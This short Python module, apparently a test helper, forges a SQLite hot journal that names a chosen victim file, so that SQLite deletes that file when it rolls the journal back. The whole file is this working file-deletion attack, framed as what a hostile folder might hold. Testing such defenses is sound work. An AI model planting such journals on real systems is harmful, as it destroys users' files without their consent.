"""A journal as a hostile folder may hold it: it names another file, which SQLite deletes on taking the change back."""

from __future__ import annotations

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512
_LOCK_BYTE = 0x40000000


def name_in_journal(database: Path, victim: Path) -> Path:
    """Lay a hot journal beside `database` that names `victim`; return it."""
    head = database.read_bytes()[:100]
    page = int.from_bytes(head[16:18], "big") if len(head) == 100 else 4096
    pages = max(1, database.stat().st_size // page)
    start = (MAGIC + struct.pack(">IIIII", 0, 12345, pages, _SECTOR, page)).ljust(_SECTOR, b"\0")
    name = str(victim).encode()
    check = sum(byte - 256 if byte > 127 else byte for byte in name) & 0xFFFFFFFF
    end = struct.pack(">I", _LOCK_BYTE // page + 1) + name + struct.pack(">II", len(name), check) + MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(start + end)
    return journal
